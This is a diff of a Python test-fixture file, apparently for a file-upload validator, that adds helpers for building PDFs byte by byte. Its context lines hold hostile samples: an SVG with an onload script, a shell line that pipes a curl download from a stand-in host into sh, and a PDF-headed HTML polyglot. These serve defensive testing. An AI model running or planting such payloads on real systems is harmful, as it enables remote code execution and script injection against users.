@@ -46,3 +46,32 @@ SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1
 SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
 # A PDF header in front of an HTML page: passes a check of the first bytes, is no PDF.
 POLYGLOT = b"%PDF-1.4\n" + HTML + b"\n%%EOF\n"
+
+
+def raw_pdf(*objects: bytes) -> bytes:
+    """A PDF written byte by byte, cross-reference table and all: object 1 is the first of
+    ``objects``, and the catalog."""
+    output = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(output))
+        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(output)
+    output += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    output += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    output += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(output)
+
+
+def raw_stream(entries: bytes, data: bytes) -> bytes:
+    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)
+
+
+def one_page_pdf(page_entries: bytes = b"", *objects: bytes) -> bytes:
+    """A one-page PDF by hand; ``objects`` are numbered from 4 on."""
+    return raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>" % page_entries,
+        *objects,
+    )
